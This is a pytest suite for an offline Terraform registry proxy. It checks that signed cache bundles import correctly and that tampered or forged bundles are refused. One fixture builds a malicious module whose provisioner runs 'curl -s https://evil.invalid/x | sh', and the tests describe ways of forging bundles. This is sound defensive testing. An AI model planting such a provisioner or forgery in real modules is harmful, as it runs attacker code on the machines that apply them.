"""Air-gap operations: warm, export, import into an offline proxy, install with Terraform."""

from __future__ import annotations

import gzip
import hashlib
import io
import json
import os
import shutil
import ssl
import subprocess
import tarfile
import urllib.request
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import diskcache
import pysequoia
import pytest
from aiohttp.test_utils import TestClient

from proxy.app import create_app
from proxy.config import load_config
from proxy.verification.hashes import h1_of_zip
from tests.conftest import config_writer
from tests.support.bundles import cli, offline_config, read_bundle, relist, write_bundle
from tests.support.fake_registry import FakeRegistry, build_zip
from tests.support.gpg import GpgKey, generate_key, stop_agent
from tests.support.proxy_process import ProxyProcess, free_port
from tests.support.terraform import terraform_env, terraform_init

ROOT_MODULE = """
terraform {
  required_providers {
    null   = { source = "hashicorp/null", version = "~> 3.1" }
    random = { source = "hashicorp/random", version = ">= 3.0" }
  }
}
module "net" {
  source  = "acme/net/aws"
  version = "1.2.0"
}
module "tarball" {
  source  = "acme/tarball/aws"
  version = "~> 1.0"
}
"""







def cache_snapshot(cache: Path) -> dict[str, str]:
    """Every file under the cache directory with its sha256."""
    return {str(path.relative_to(cache)): hashlib.sha256(path.read_bytes()).hexdigest()
            for path in sorted(cache.rglob("*")) if path.is_file()}


def module_with_provisioner() -> bytes:
    """A module archive whose main.tf runs a command on the machine that applies it."""
    main = b'resource "null_resource" "x" {\n  provisioner "local-exec" {\n' \
           b'    command = "curl -s https://evil.invalid/x | sh"\n  }\n}\n'
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as tar:
        info = tarfile.TarInfo("main.tf")
        info.size = len(main)
        tar.addfile(info, io.BytesIO(main))
    return gzip.compress(buffer.getvalue())


@dataclass(frozen=True)
class KeyPair:
    """A bundle signing key pair as `keygen` writes it."""

    secret: Path
    public: Path


@pytest.fixture(scope="module")
def exported(tmp_path_factory: pytest.TempPathFactory, registry_server: FakeRegistry,
             upstream_ca_file: Path) -> Path:
    """Once per module (the slow part): keygen; warm a connected proxy's cache from a
    configuration and export it, signed (and a selection of it, as partial.tar). Each test
    gets a copy (bundle_keys, bundle)."""
    work = tmp_path_factory.mktemp("exported")
    result = cli("keygen", "--output", str(work / "keys"), cwd=work)
    assert result.returncode == 0, result.stderr
    secret = work / "keys" / "bundle-key.secret.asc"
    registry_server.reset()
    configuration = work / "configuration"
    configuration.mkdir()
    (configuration / "main.tf").write_text(ROOT_MODULE)
    connected = config_writer(work, registry_server, upstream_ca_file)(
        cache_dir=work / "connected")
    warmed = cli("warm", "--config", str(connected), "--platform", "linux_amd64",
                 "--platform", "darwin_arm64", str(configuration), cwd=work)
    assert warmed.returncode == 0, warmed.stdout + warmed.stderr
    rows = {line.split("  ")[0].strip(): line.split() for line in warmed.stdout.splitlines()}
    assert rows["registry.terraform.io/hashicorp/null ~> 3.1"][-4:] == ["3.2.1", "2", "0.0",
                                                                       "ok"]
    assert rows["registry.terraform.io/acme/net/aws 1.2.0"][-1] == "ok"
    registry_server.requests.clear()
    again = cli("warm", "--config", str(connected), "--platform", "linux_amd64",
                str(configuration), cwd=work)
    assert again.returncode == 0
    assert registry_server.archive_requests() == []  # resumable: what is cached is not fetched
    exported = cli("export", "--config", str(connected), "--output", str(work / "bundle.tar"),
                   "--signing-key", str(secret), cwd=work)
    assert exported.returncode == 0, exported.stderr
    assert "4 provider packages, 2 module archives, signed with key " in exported.stdout
    # A selection: only what a list names.
    listing = work / "only-null.txt"
    listing.write_text("hashicorp/null ~> 3.0\nacme/tarball/aws\n")
    partial = work / "partial.tar"
    selected = cli("export", "--config", str(connected), "--output", str(partial),
                   "--signing-key", str(secret), str(listing), cwd=work)
    assert selected.returncode == 0, selected.stderr
    assert "2 provider packages, 1 module archives" in selected.stdout
    with tarfile.open(partial) as tar:
        names = tar.getnames()
    assert not any("random" in n or "acme/net" in n for n in names)
    registry_server.reset()
    return work


@pytest.fixture
def bundle_keys(tmp_path: Path, exported: Path) -> KeyPair:
    """The exporter's key pair, from `keygen` (a copy in this test's directory)."""
    shutil.copytree(exported / "keys", tmp_path / "keys")
    return KeyPair(tmp_path / "keys" / "bundle-key.secret.asc",
                   tmp_path / "keys" / "bundle-key.public.asc")


@pytest.fixture(scope="module")
def gpg_operator(tmp_path_factory: pytest.TempPathFactory) -> Iterator[GpgKey]:
    """An operator's own key, made with gpg and protected by a passphrase."""
    key = generate_key(tmp_path_factory.mktemp("gpg") / "operator", "Bundle Operator",
                       passphrase="correct horse battery staple")
    yield key
    stop_agent(key)


@pytest.fixture
def trusted_keys(tmp_path: Path, signer: GpgKey) -> Path:
    """The release signer's public key, as an operator would get it from the registry."""
    path = tmp_path / "trusted-keys.asc"
    path.write_text(signer.armored_public_key)
    return path


@pytest.fixture
def bundle(tmp_path: Path, exported: Path, bundle_keys: KeyPair) -> Path:
    """The signed bundle of a warmed cache (and partial.tar, a selection of it), with the
    connected cache it came from, copied into this test's directory."""
    shutil.copytree(exported / "connected", tmp_path / "connected")
    for name in ("bundle.tar", "partial.tar"):
        shutil.copy2(exported / name, tmp_path / name)
    return tmp_path / "bundle.tar"


@pytest.mark.e2e
def test_carry_the_cache_across_the_gap(tmp_path: Path, bundle: Path, bundle_keys: KeyPair,
                                        registry: FakeRegistry) -> None:
    """keygen, export --signing-key, import --bundle-key alone (the registry keys the signed
    bundle carries check the provider signatures), then an offline `terraform init`."""
    port = free_port()
    inside = offline_config(tmp_path, "inside", port=port)
    refused = cli("import", "--config", str(inside), str(bundle), cwd=tmp_path)
    assert refused.returncode == 2 and "--bundle-key" in refused.stderr
    assert not (tmp_path / "inside").exists()
    imported = cli("import", "--config", str(inside), "--bundle-key", str(bundle_keys.public),
                   str(bundle), cwd=tmp_path)
    assert imported.returncode == 0, imported.stderr
    assert "imported 4 provider packages, 2 module archives (bundle signed by " \
        in imported.stdout
    registry.requests.clear()
    with ProxyProcess(inside, tmp_path / "inside", port, tmp_path / "inside.log") as proxy:
        printed = proxy.cli("client-config")
        cli_config = tmp_path / "inside.tfrc"
        cli_config.write_text(printed.stdout)
        workdir = tmp_path / "air-gapped"
        workdir.mkdir()
        (workdir / "main.tf").write_text(ROOT_MODULE)
        result = terraform_init(workdir, terraform_env(tmp_path / "home", cli_config,
                                                       proxy.ca_file))
        assert result.retcode == 0, result.output
        assert "Installed hashicorp/null v3.2.1" in result.stdout
        assert (workdir / ".terraform/modules/net/shared/main.tf").exists()
        # The registry protocol, offline, lists only the platforms the cache holds.
        context = ssl.create_default_context(cafile=str(proxy.ca_file))
        url = f"{proxy.url}providers/registry.terraform.io/hashicorp/null/versions"
        with urllib.request.urlopen(url, context=context) as response:
            listed = json.load(response)["versions"]
        assert listed == [{"version": "3.2.1", "protocols": ["5.0"], "platforms": [
            {"os": "linux", "arch": "amd64"}, {"os": "darwin", "arch": "arm64"}]}]
    assert registry.requests == []


def test_altered_bundle_is_refused_and_the_cache_untouched(tmp_path: Path, bundle: Path,
                                                           bundle_keys: KeyPair) -> None:
    data = bytearray(bundle.read_bytes())
    with tarfile.open(bundle) as tar:
        member = next(m for m in tar.getmembers() if m.name.endswith("linux_amd64.zip"))
    data[member.offset_data + 200] ^= 0x01
    altered = tmp_path / "altered.tar"
    altered.write_bytes(bytes(data))
    inside = offline_config(tmp_path, "inside")
    result = cli("import", "--config", str(inside), "--bundle-key", str(bundle_keys.public),
                 str(altered), cwd=tmp_path)
    assert result.returncode == 2
    assert member.name in result.stderr and "does not match the manifest" in result.stderr
    cache = tmp_path / "inside"
    assert not list(cache.rglob("*.zip")) and not list(cache.rglob("*.tar.gz"))


def test_a_forged_manifest_cannot_carry_a_forged_package(tmp_path: Path,
                                                         bundle: Path) -> None:
    """Rewrite a zip and its manifest line consistently: even when nothing checks who made
    the bundle, the registry's signed checksum still says no."""
    members, manifest = read_bundle(bundle)
    name = next(n for n in members if n.endswith("linux_amd64.zip"))
    members[name] = members[name][:-1] + bytes([members[name][-1] ^ 1])
    relist(manifest, name, members[name])
    forged = write_bundle(tmp_path / "forged.tar", members, manifest)
    result = cli("import", "--config", str(offline_config(tmp_path, "inside")),
                 "--allow-unsigned-bundle", str(forged), cwd=tmp_path)
    assert result.returncode == 2
    assert "signed checksum" in result.stderr


async def test_terraform_providers_mirror_directory_imports_and_serves(
        tmp_path: Path, registry: FakeRegistry, signer: GpgKey,
        aiohttp_client) -> None:  # type: ignore[no-untyped-def]
    release = registry.releases[("hashicorp", "null", "3.2.1")]
    # What `terraform providers mirror` writes (Unicode host names would be written as such).
    directory = tmp_path / "mirror" / "registry.terraform.io" / "hashicorp" / "null"
    directory.mkdir(parents=True)
    zip_path = directory / release.filename("linux_amd64")
    zip_path.write_bytes(release.zips["linux_amd64"])
    (directory / "index.json").write_text('{"versions": {"3.2.1": {}}}')
    (directory / "3.2.1.json").write_text(json.dumps({"archives": {"linux_amd64": {
        "url": zip_path.name, "hashes": [h1_of_zip(zip_path)]}}}))
    inside = offline_config(tmp_path, "inside")
    key = str(_write(tmp_path / "k.asc", signer.armored_public_key))
    for flags in ([], ["--bundle-key", key], ["--allow-unsigned", "--trusted-keys", key]):
        # Nothing in the directory is signed: no key can check it, and none pretends to. The
        # advice is the directory's, never the bundle's (an exporter's key from `keygen`).
        unvouched = cli("import", "--config", str(inside), *flags, str(tmp_path / "mirror"),
                        cwd=tmp_path)
        assert unvouched.returncode == 2, flags
        assert "is a `terraform providers mirror` directory" in unvouched.stderr, flags
        assert "Import it with --allow-unsigned if it came over a path you trust" \
            in unvouched.stderr, flags
        assert "keygen" not in unvouched.stderr, flags
    assert not (tmp_path / "inside").exists()
    result = cli("import", "--config", str(inside), "--allow-unsigned",
                 str(tmp_path / "mirror"), cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    client: TestClient = await aiohttp_client(create_app(load_config(inside, environ={})))
    base = "/mirror/registry.terraform.io/hashicorp/null"
    assert await (await client.get(f"{base}/index.json")).json() == {"versions": {"3.2.1": {}}}
    document = await (await client.get(f"{base}/3.2.1.json")).json()
    assert document["archives"]["linux_amd64"]["hashes"][0] == h1_of_zip(zip_path)
    assert await (await client.get(f"{base}/{zip_path.name}")).read() == \
        release.zips["linux_amd64"]

    (directory / "3.2.1.json").write_text(json.dumps({"archives": {"linux_amd64": {
        "url": zip_path.name, "hashes": ["h1:AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA="]}}}))
    other = offline_config(tmp_path, "other")
    refused = cli("import", "--config", str(other), "--allow-unsigned-bundle",
                  str(tmp_path / "mirror"), cwd=tmp_path)
    assert refused.returncode == 2 and "matches none of the hashes" in refused.stderr


def test_warm_a_running_proxy(tmp_path: Path, write_config: Callable[..., Path],
                              registry: FakeRegistry) -> None:
    listing = tmp_path / "wanted.txt"
    listing.write_text("registry.terraform.io/hashicorp/null 3.1.0\nacme/tarball/aws\n"
                       "hashicorp/nonexistent\n")
    port = free_port()
    config = write_config(cache_dir=tmp_path / "running", port=port)
    with ProxyProcess(config, tmp_path / "running", port, tmp_path / "running.log") as proxy:
        result = cli("warm", "--proxy", proxy.url, "--ca-file", str(proxy.ca_file),
                     str(listing), cwd=tmp_path)
    assert result.returncode == 1  # one requirement failed; the others were warmed
    assert "terraform-provider-null_3.1.0_linux_amd64.zip" in " ".join(
        registry.archive_requests())
    rows = {line.split("  ")[0].strip(): line for line in result.stdout.splitlines()}
    assert rows["registry.terraform.io/hashicorp/null 3.1.0"].endswith("ok")
    assert rows["registry.terraform.io/acme/tarball/aws"].endswith("ok")
    assert "HTTP 404" in rows["registry.terraform.io/hashicorp/nonexistent"]


@pytest.mark.parametrize("damage", ["drop a file", "bad version", "no manifest"])
def test_malformed_bundles_are_refused_cleanly(tmp_path: Path, bundle: Path,
                                               bundle_keys: KeyPair, damage: str) -> None:
    """Damage that a signed manifest vouches for (signed again after it) is still refused."""
    members, manifest = read_bundle(bundle)
    if damage == "drop a file":
        del members[manifest["providers"][0]["sums"]]
        del manifest["files"][manifest["providers"][0]["sums"]]
    elif damage == "bad version":
        manifest["providers"][0]["version"] = "../../../etc"
    members["manifest.json"] = json.dumps(manifest).encode()
    members = read_bundle(write_bundle(tmp_path / "signed.tar", members,
                                       signing_key=bundle_keys.secret))[0]
    if damage == "no manifest":
        del members["manifest.json"]
    broken = write_bundle(tmp_path / "broken.tar", members)
    result = cli("import", "--config", str(offline_config(tmp_path, "inside")),
                 "--bundle-key", str(bundle_keys.public), str(broken), cwd=tmp_path)
    assert result.returncode == 2, result.stderr
    assert "refused" in result.stderr and "Traceback" not in result.stderr
    assert not list((tmp_path / "inside").rglob("*.zip"))


def test_a_bundle_signed_by_its_own_key_is_refused(tmp_path: Path, bundle: Path,
                                                   trusted_keys: Path, impostor: GpgKey,
                                                   registry: FakeRegistry) -> None:
    """Replace a package, re-sign its SHA256SUMS with another key and put that key in the
    bundle: consistent with itself, but not with the trusted keys."""
    members, manifest = read_bundle(bundle)
    entry = next(e for e in manifest["providers"] if e["platform"] == "linux_amd64"
                 and e["type"] == "null")
    evil = build_zip({"terraform-provider-null_v3.2.1": (b"#!/bin/sh\necho pwned\n", 0o755)})
    sha = hashlib.sha256(evil).hexdigest()
    sums = f"{sha}  {entry['filename']}\n".encode()
    members[entry["zip"]] = evil
    members[entry["sums"]] = sums
    members[entry["signature"]] = impostor.detach_sign(sums)
    entry["shasum"], entry["h1"] = sha, None
    entry["document"]["shasum"] = sha
    entry["document"]["signing_keys"] = {"gpg_public_keys": [
        {"ascii_armor": impostor.armored_public_key}]}
    for name in (entry["zip"], entry["sums"], entry["signature"]):
        relist(manifest, name, members[name])
    manifest["providers"] = [entry]
    members = {k: v for k, v in members.items()
               if k in (entry["zip"], entry["sums"], entry["signature"])}
    manifest["files"] = {k: manifest["files"][k] for k in members}
    manifest["modules"] = []
    manifest["versions"] = {}
    forged = write_bundle(tmp_path / "self-signed.tar", members, manifest)
    result = cli("import", "--config", str(offline_config(tmp_path, "inside")),
                 "--allow-unsigned-bundle", "--trusted-keys", str(trusted_keys), str(forged),
                 cwd=tmp_path)
    assert result.returncode == 2
    assert "does not verify" in result.stderr
    assert not list((tmp_path / "inside").rglob("*.zip"))


def test_user_mistakes_get_clear_answers(tmp_path: Path, bundle: Path, bundle_keys: KeyPair,
                                         write_config: Callable[..., Path],
                                         signer: GpgKey) -> None:
    connected = str(write_config(cache_dir=tmp_path / "connected"))
    inside = str(offline_config(tmp_path, "inside"))
    wanted = tmp_path / "aws.txt"
    wanted.write_text("hashicorp/aws ~> 5.0\n")
    secret, public = str(bundle_keys.secret), str(bundle_keys.public)
    out = str(tmp_path / "out.tar")
    cases = {
        "not cached": (["export", "--config", connected, "--output",
                        str(tmp_path / "aws.tar"), "--signing-key", secret, str(wanted)],
                       "not in the cache (warm it first): registry.terraform.io/hashicorp/aws"),
        "no signing choice": (["export", "--config", connected, "--output", out],
                              "one of the arguments --signing-key --unsigned is required"),
        "public key to sign": (["export", "--config", connected, "--output", out,
                                "--signing-key", public], "holds a public key only"),
        "not a key": (["export", "--config", connected, "--output", out, "--signing-key",
                       str(_write(tmp_path / "x.asc", "hello\n"))], "holds no OpenPGP"),
        "lone passphrase": (["export", "--config", connected, "--output", out, "--unsigned",
                             "--passphrase-file", secret], "goes with --signing-key"),
        "no origin check": (["import", "--config", inside, str(bundle)],
                            "needs --bundle-key FILE"),
        "secret key to verify": (["import", "--config", inside, "--bundle-key", secret,
                                  str(bundle)], "holds a secret key"),
        "both origins": (["import", "--config", inside, "--bundle-key", public,
                          "--allow-unsigned-bundle", str(bundle)], "not allowed with"),
        "bad platform": (["warm", "--config", connected, "--platform", "linux-amd64",
                          str(wanted)], "expected OS_ARCH"),
        "bad constraint": (["warm", "--config", connected, str(_write(tmp_path / "c.txt",
                           "hashicorp/null banana\n"))], "c.txt:1: "),
        "binary keys": (["import", "--config", inside, "--bundle-key", public,
                         "--trusted-keys", str(_write(tmp_path / "k.gpg", b"\x99\x01\x0d")),
                         str(bundle)], "not ASCII-armored"),
        "unpacked bundle": (["import", "--config", inside, "--bundle-key", public,
                             str(_unpack(bundle, tmp_path))], "looks like an unpacked bundle"),
        "keygen over a key": (["keygen", "--output", str(bundle_keys.secret.parent)],
                              "exists; keygen never overwrites a key"),
    }
    for name, (args, message) in cases.items():
        result = cli(*args, cwd=tmp_path)
        assert result.returncode == 2, (name, result.stdout, result.stderr)
        assert message in result.stderr, (name, result.stderr)
        assert "Traceback" not in result.stderr, name
    assert not (tmp_path / "aws.tar").exists() and not (tmp_path / "out.tar").exists()
    assert not (tmp_path / "inside").exists()

    # A bundle unpacked and packed again with tar (./ names, directory entries) still imports.
    repacked = tmp_path / "repacked.tar"
    subprocess.run(["tar", "cf", str(repacked), "-C", str(_unpack(bundle, tmp_path / "r")),
                    "."], check=True)
    result = cli("import", "--config", inside, "--bundle-key", public, str(repacked),
                 cwd=tmp_path)
    assert result.returncode == 0, result.stderr


def _write(path: Path, content: str | bytes) -> Path:
    if isinstance(content, bytes):
        path.write_bytes(content)
    else:
        path.write_text(content)
    return path


def _unpack(bundle: Path, where: Path) -> Path:
    target = where / "unpacked"
    target.mkdir(parents=True)
    subprocess.run(["tar", "xf", str(bundle), "-C", str(target)], check=True)
    return target


def _tampered(kind: str, members: dict[str, bytes], manifest: dict[str, Any]) -> str:
    """Change a signed bundle the way an attacker on the carrying path could; returns the
    member the refusal must name."""
    module = next(e["archive"] for e in manifest["modules"] if "/acme/net/" in e["archive"])
    if kind == "module and its manifest entry rewritten":
        members[module] = module_with_provisioner()
        relist(manifest, module, members[module])
        members["manifest.json"] = json.dumps(manifest).encode()
        return "manifest.json.sig"
    if kind == "module rewritten":
        members[module] = module_with_provisioner()
        return module
    if kind == "manifest edited after signing":
        manifest["versions"]["registry.terraform.io/hashicorp/null"][0]["platforms"].append(
            "windows_amd64")
        members["manifest.json"] = json.dumps(manifest, indent=1).encode()
        return "manifest.json.sig"
    if kind == "member added":
        members["modules/registry.terraform.io/acme/net/aws/9.9.9.tar.gz"] = \
            module_with_provisioner()
        return "modules/registry.terraform.io/acme/net/aws/9.9.9.tar.gz"
    if kind == "member dropped":
        del members[module]
        return module
    if kind == "signature dropped":
        del members["manifest.json.sig"]
        return "manifest.json.sig"
    raise AssertionError(kind)


TAMPERING = ["module and its manifest entry rewritten", "module rewritten",
             "manifest edited after signing", "member added", "member dropped",
             "signature dropped", "member given twice"]


def test_a_tampered_signed_bundle_is_refused_and_the_cache_kept(
        tmp_path: Path, bundle: Path, bundle_keys: KeyPair, trusted_keys: Path) -> None:
    """Whatever changed after signing, even with every provider key trusted: the refusal
    names the member, and the cache stays byte for byte as it was."""
    inside = str(offline_config(tmp_path, "inside"))
    first = cli("import", "--config", inside, "--bundle-key", str(bundle_keys.public),
                str(tmp_path / "partial.tar"), cwd=tmp_path)
    assert first.returncode == 0, first.stderr
    before = cache_snapshot(tmp_path / "inside")
    assert any(name.startswith("modules/") for name in before)
    for kind in TAMPERING:
        members, manifest = read_bundle(bundle)
        tampered = tmp_path / "tampered.tar"
        if kind == "member given twice":
            module = next(e["archive"] for e in manifest["modules"]
                          if "/acme/net/" in e["archive"])
            tampered.write_bytes(bundle.read_bytes())
            # Appended after the genuine member: tar tools extract the last copy.
            with tarfile.open(tampered, "a") as tar:
                evil = module_with_provisioner()
                info = tarfile.TarInfo(module)
                info.size = len(evil)
                tar.addfile(info, io.BytesIO(evil))
            named = module
        else:
            named = _tampered(kind, members, manifest)
            write_bundle(tampered, members)
        result = cli("import", "--config", inside, "--bundle-key", str(bundle_keys.public),
                     "--trusted-keys", str(trusted_keys), str(tampered), cwd=tmp_path)
        assert result.returncode == 2, (kind, result.stdout)
        assert f"refused {tampered}: {named}: " in result.stderr, (kind, result.stderr)
        assert "Traceback" not in result.stderr, kind
        assert cache_snapshot(tmp_path / "inside") == before, kind


def test_a_bundle_signed_by_an_unknown_key_is_refused(tmp_path: Path, bundle: Path,
                                                      gpg_operator: GpgKey) -> None:
    other = tmp_path / "other.asc"
    other.write_text(gpg_operator.armored_public_key)
    result = cli("import", "--config", str(offline_config(tmp_path, "inside")),
                 "--bundle-key", str(other), str(bundle), cwd=tmp_path)
    assert result.returncode == 2
    members = read_bundle(bundle)[0]
    made_by = pysequoia.Sig.from_bytes(members["manifest.json.sig"]).issuer_fingerprint
    assert made_by and made_by.upper() in result.stderr
    assert "manifest.json.sig: the manifest signature" in result.stderr
    assert "does not verify with any bundle key" in result.stderr
    assert not (tmp_path / "inside").exists()


def test_a_bad_registry_signature_is_refused_even_in_a_signed_bundle(
        tmp_path: Path, bundle: Path, bundle_keys: KeyPair, impostor: GpgKey) -> None:
    """The bundle's signature vouches for the registry keys it carries, not for whatever
    SHA256SUMS signature it holds: the provider check still runs with those keys."""
    members, manifest = read_bundle(bundle)
    entry = next(e for e in manifest["providers"] if e["type"] == "null"
                 and e["platform"] == "linux_amd64")
    members[entry["signature"]] = impostor.detach_sign(members[entry["sums"]])
    relist(manifest, entry["signature"], members[entry["signature"]])
    resigned = write_bundle(tmp_path / "resigned.tar", members, manifest,
                            signing_key=bundle_keys.secret)
    result = cli("import", "--config", str(offline_config(tmp_path, "inside")),
                 "--bundle-key", str(bundle_keys.public), str(resigned), cwd=tmp_path)
    assert result.returncode == 2
    assert f"{entry['signature']}: the signature does not verify with the keys in the " \
        "bundle" in result.stderr
    assert not list((tmp_path / "inside").rglob("*.zip"))


def test_trusted_keys_are_an_extra_check_on_a_signed_bundle(
        tmp_path: Path, bundle: Path, bundle_keys: KeyPair, trusted_keys: Path,
        impostor: GpgKey) -> None:
    """A package signed with a key the bundle carries, from a trusted exporter: the bundle
    key vouches for it; --trusted-keys, when given, must agree as well."""
    members, manifest = read_bundle(bundle)
    entry = next(e for e in manifest["providers"] if e["type"] == "random")
    members[entry["signature"]] = impostor.detach_sign(members[entry["sums"]])
    relist(manifest, entry["signature"], members[entry["signature"]])
    entry["document"]["signing_keys"] = {"gpg_public_keys": [
        {"ascii_armor": impostor.armored_public_key}]}
    keep = {entry["zip"], entry["sums"], entry["signature"]}
    members = {k: v for k, v in members.items() if k in keep}
    manifest.update(providers=[entry], modules=[], versions={},
                    files={k: v for k, v in manifest["files"].items() if k in keep})
    signed = write_bundle(tmp_path / "signed.tar", members, manifest,
                          signing_key=bundle_keys.secret)
    inside = str(offline_config(tmp_path, "inside"))
    checked = cli("import", "--config", inside, "--bundle-key", str(bundle_keys.public),
                  "--trusted-keys", str(trusted_keys), str(signed), cwd=tmp_path)
    assert checked.returncode == 2
    assert f"{entry['signature']}: the signature does not verify with any of the " \
        "--trusted-keys" in checked.stderr
    assert not list((tmp_path / "inside").rglob("*.zip"))
    vouched = cli("import", "--config", inside, "--bundle-key", str(bundle_keys.public),
                  str(signed), cwd=tmp_path)
    assert vouched.returncode == 0, vouched.stderr
    assert "imported 1 provider packages" in vouched.stdout


def test_keygen_writes_a_pair_gpg_understands_and_never_overwrites(
        tmp_path: Path, bundle: Path, bundle_keys: KeyPair) -> None:
    assert bundle_keys.secret.stat().st_mode & 0o777 == 0o600
    assert bundle_keys.public.stat().st_mode & 0o044 == 0o044  # importers may read it
    assert "PRIVATE KEY" not in bundle_keys.public.read_text()
    # An auditor checks a bundle with gpg alone: its manifest signature is plain OpenPGP.
    home = tmp_path / "auditor"
    home.mkdir(mode=0o700)
    env = {"GNUPGHOME": str(home), "PATH": os.environ.get("PATH", "/usr/bin:/bin")}
    subprocess.run(["gpg", "--batch", "--import", str(bundle_keys.public)], env=env,
                   check=True, capture_output=True, timeout=60)
    unpacked = _unpack(bundle, tmp_path)
    verified = subprocess.run(["gpg", "--batch", "--verify", str(unpacked / "manifest.json.sig"),
                               str(unpacked / "manifest.json")], env=env, capture_output=True,
                              text=True, timeout=60)
    assert verified.returncode == 0 and "Good signature" in verified.stderr, verified.stderr

    keys = bundle_keys.secret.parent
    contents = {path.name: path.read_bytes() for path in keys.iterdir()}
    again = cli("keygen", "--output", str(keys), cwd=tmp_path)
    assert again.returncode == 2 and "never overwrites" in again.stderr
    assert {path.name: path.read_bytes() for path in keys.iterdir()} == contents
    # Half a pair in the way: nothing is written either.
    lone = tmp_path / "lone"
    lone.mkdir()
    (lone / "bundle-key.public.asc").write_text("mine\n")
    refused = cli("keygen", "--output", str(lone), cwd=tmp_path)
    assert refused.returncode == 2 and "bundle-key.public.asc exists" in refused.stderr
    assert [path.name for path in lone.iterdir()] == ["bundle-key.public.asc"]


def test_a_gpg_made_key_with_a_passphrase_signs_bundles(
        tmp_path: Path, bundle: Path, write_config: Callable[..., Path],
        gpg_operator: GpgKey) -> None:
    connected = str(write_config(cache_dir=tmp_path / "connected"))
    secret = _write(tmp_path / "operator.secret.asc", gpg_operator.armored_secret_key())
    public = _write(tmp_path / "operator.asc", gpg_operator.armored_public_key)
    output = tmp_path / "operator.tar"

    def export(*extra: str) -> subprocess.CompletedProcess[str]:
        return cli("export", "--config", connected, "--output", str(output), "--signing-key",
                   str(secret), *extra, cwd=tmp_path)

    locked = export()
    assert locked.returncode == 2 and "passphrase-protected" in locked.stderr
    wrong = export("--passphrase-file", str(_write(tmp_path / "wrong", "nope\n")))
    assert wrong.returncode == 2 and "cannot unlock" in wrong.stderr
    assert not output.exists()
    right = export("--passphrase-file", str(_write(tmp_path / "pass",
                                                   gpg_operator.passphrase + "\n")))
    assert right.returncode == 0, right.stderr
    assert f"signed with key {gpg_operator.fingerprint}" in right.stdout
    imported = cli("import", "--config", str(offline_config(tmp_path, "inside")),
                   "--bundle-key", str(public), str(output), cwd=tmp_path)
    assert imported.returncode == 0, imported.stderr
    assert f"bundle signed by {gpg_operator.fingerprint}" in imported.stdout


def test_an_unsigned_bundle_needs_the_explicit_opt_out(
        tmp_path: Path, bundle: Path, bundle_keys: KeyPair,
        write_config: Callable[..., Path]) -> None:
    connected = str(write_config(cache_dir=tmp_path / "connected"))
    output = tmp_path / "unsigned.tar"
    exported = cli("export", "--config", connected, "--output", str(output), "--unsigned",
                   cwd=tmp_path)
    assert exported.returncode == 0 and "UNSIGNED" in exported.stdout
    inside = str(offline_config(tmp_path, "inside"))
    refused = cli("import", "--config", inside, "--bundle-key", str(bundle_keys.public),
                  str(output), cwd=tmp_path)
    assert refused.returncode == 2
    assert "manifest.json.sig: missing, the bundle is not signed" in refused.stderr
    assert not (tmp_path / "inside").exists()
    allowed = cli("import", "--config", inside, "--allow-unsigned-bundle", str(output),
                  cwd=tmp_path)
    assert allowed.returncode == 0, allowed.stderr
    assert "origin not checked: --allow-unsigned" in allowed.stdout


def test_presigned_upstream_urls_are_neither_stored_nor_exported(
        tmp_path: Path, write_config: Callable[..., Path], registry: FakeRegistry) -> None:
    registry.faults.add("expiring")  # download URLs carry ?token=N, as presigned URLs do
    listing = _write(tmp_path / "wanted.txt", "hashicorp/null 3.2.1\n")
    connected = str(write_config(cache_dir=tmp_path / "connected"))
    warmed = cli("warm", "--config", connected, "--platform", "linux_amd64", str(listing),
                 cwd=tmp_path)
    assert warmed.returncode == 0, warmed.stdout + warmed.stderr
    assert registry.url_token > 0 and registry.archive_requests()  # the fault was live
    stored = [p for p in (tmp_path / "connected").rglob("*") if p.is_file()
              and b"?token=" in p.read_bytes()]
    assert stored == []
    output = tmp_path / "bundle.tar"
    exported = cli("export", "--config", connected, "--output", str(output), "--unsigned",
                   cwd=tmp_path)
    assert exported.returncode == 0, exported.stderr
    members, manifest = read_bundle(output)
    assert manifest["providers"], manifest
    assert all(b"?token=" not in data for data in members.values())


@pytest.mark.parametrize("damaged", ["module archive", "module archive without a record",
                                     "provider package"])
def test_export_refuses_to_sign_a_file_damaged_on_disk_and_names_it(
        tmp_path: Path, write_config: Callable[..., Path], registry: FakeRegistry,
        damaged: str) -> None:
    """Each stored file is checked against the sha256 it was stored with (a module archive
    stored without one: against its gzip checksum) before the manifest vouches for it."""
    listing = _write(tmp_path / "wanted.txt", "hashicorp/null 3.2.1\nacme/tarball/aws 1.0.0\n")
    config = write_config(cache_dir=tmp_path / "connected")
    warmed = cli("warm", "--config", str(config), "--platform", "linux_amd64", str(listing),
                 cwd=tmp_path)
    assert warmed.returncode == 0, warmed.stdout + warmed.stderr
    cache = tmp_path / "connected"
    if damaged == "provider package":
        stored = next(cache.rglob("terraform-provider-null_3.2.1_linux_amd64.zip"))
        named = "registry.terraform.io/hashicorp/null 3.2.1 linux_amd64"
    else:
        stored = cache / "modules/registry.terraform.io/acme/tarball/aws/1.0.0.tar.gz"
        named = "module registry.terraform.io/acme/tarball/aws 1.0.0"
    if damaged == "module archive without a record":  # stored by an older version
        index = diskcache.Cache(str(cache / "index"))
        index.delete("module-archive/registry.terraform.io/acme/tarball/aws/1.0.0")
        index.close()
    size = stored.stat().st_size
    with open(stored, "r+b") as handle:  # bit rot: same size, other bytes
        handle.seek(size // 2)
        handle.write(bytes(b ^ 0xFF for b in handle.read(8)))

    output = tmp_path / "bundle.tar"
    exported = cli("export", "--config", str(config), "--output", str(output), "--unsigned",
                   cwd=tmp_path)
    assert exported.returncode == 2
    assert "Traceback" not in exported.stderr
    assert len(exported.stderr.strip().splitlines()) == 1, exported.stderr
    assert named in exported.stderr and str(stored) in exported.stderr
    assert "damaged" in exported.stderr
    # Checked against the sha256 recorded with it; without one, read through as a .tar.gz.
    assert ("not an intact .tar.gz" in exported.stderr) \
        == (damaged == "module archive without a record")
    assert sorted(p.name for p in tmp_path.iterdir() if p.name.startswith("bundle")) == []
